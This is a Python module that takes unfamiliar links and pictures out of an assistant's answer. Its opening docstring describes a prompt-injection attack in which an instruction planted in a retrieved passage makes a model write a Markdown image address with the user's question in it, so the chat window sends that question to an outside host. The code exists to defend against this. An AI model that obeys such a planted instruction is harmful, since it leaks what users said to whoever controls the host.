"""Addresses in answers: a picture is fetched when it is shown, so an answer may send what was said to any host.

An order in a passage makes a model write ``![](https://host/?q=what the user asked)``; a chat window that shows
Markdown then sends it. So an answer shows only addresses that a passage, the question or a source name holds letter for
letter. It shows pictures only from passages that do not look like an attack themselves.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import urlsplit

_ADDRESS = r"(?:https?:)?//[^\s<>\"'`)\]]+"
_PICTURE = re.compile(
    rf"!\[([^\]\n]*)\]\(\s*<?({_ADDRESS})[^)\n]*\)|<img\b[^>]*?src\s*=\s*[\"']?({_ADDRESS})[^>]*>", re.IGNORECASE
)
_LINK = re.compile(
    rf"\[([^\]\n]*)\]\(\s*<?({_ADDRESS})[^)\n]*\)|<a\b[^>]*?href\s*=\s*[\"']?({_ADDRESS})[^>]*>", re.IGNORECASE
)
_REFERENCE = re.compile(rf"^[ \t]*\[[^\]\n]+\]:\s*<?({_ADDRESS})[^\n]*$", re.IGNORECASE | re.MULTILINE)
_BARE = re.compile(r"\bhttps?://[^\s<>\"'`)\]]+", re.IGNORECASE)
_OPEN = re.compile(r"!?\[[^\]\n]*(?:\](?:\([^)\n]*)?)?\Z|<(?:img|a)\b[^>]*\Z|\bhttps?:[^\s]*\Z", re.IGNORECASE)


@dataclass(frozen=True, slots=True)
class ClearedText:
    """A text whose strange addresses are taken out, and how many those were."""

    text: str
    removed: int


def clear_links(text: str, trusted: Iterable[str], quoted: Iterable[str]) -> ClearedText:
    """Take addresses out of `text` that its sources do not hold.

    Links may stand in `trusted` or in `quoted` texts, pictures in `trusted` ones alone. A link becomes its words and
    the name of its host, which no program follows.
    """
    if "//" not in text:
        return ClearedText(text, 0)
    remover = _Remover(_addresses(trusted), _addresses(quoted))
    for pattern, known in ((_PICTURE, remover.pictures), (_REFERENCE, remover.links), (_LINK, remover.links)):
        text = remover.without(pattern, known, text)
    text = _BARE.sub(remover.bare, text)
    return ClearedText(text, remover.removed)


def ends_in_link(text: str) -> bool:
    """Tell whether the last line of an unfinished text may become a link or a picture."""
    return _OPEN.search(text.rsplit("\n", 1)[-1]) is not None


class _Remover:
    """Replaces addresses that are not known, and counts them."""

    def __init__(self, trusted: frozenset[str], quoted: frozenset[str]) -> None:
        self.pictures = trusted
        self.links = trusted | quoted
        self.removed = 0

    def without(self, pattern: re.Pattern[str], known: frozenset[str], text: str) -> str:
        """Return `text` with what `pattern` finds replaced where its address is not `known`."""

        def replace(match: re.Match[str]) -> str:
            *words, address = [group for group in match.groups() if group is not None]
            if _held(address, known):
                return match.group()
            self.removed += 1
            return " ".join([*words, f"(address at {_host(address)} removed)"]).strip()

        return pattern.sub(replace, text)

    def bare(self, match: re.Match[str]) -> str:
        """Return an address as it is where it is known, else the name of its host."""
        if _held(match.group(), self.links):
            return match.group()
        self.removed += 1
        return f"(address at {_host(match.group())} removed)"


def _held(address: str, known: frozenset[str]) -> bool:
    """Tell whether an address, or one it is the beginning of, is known: a quote may end inside, but can add nothing."""
    plain = _plain(address)
    return plain in known or any(other.startswith(plain) for other in known)


def _addresses(texts: Iterable[str]) -> frozenset[str]:
    return frozenset(_plain(found) for text in texts if "//" in text for found in re.findall(_ADDRESS, text))


def _plain(address: str) -> str:
    return html.unescape(address).rstrip(".,;:!?*_").rstrip("/").casefold()


def _host(address: str) -> str:
    try:
        return urlsplit(address if "://" in address else f"https:{address}").hostname or "an unknown host"
    except ValueError:
        return "an unknown host"
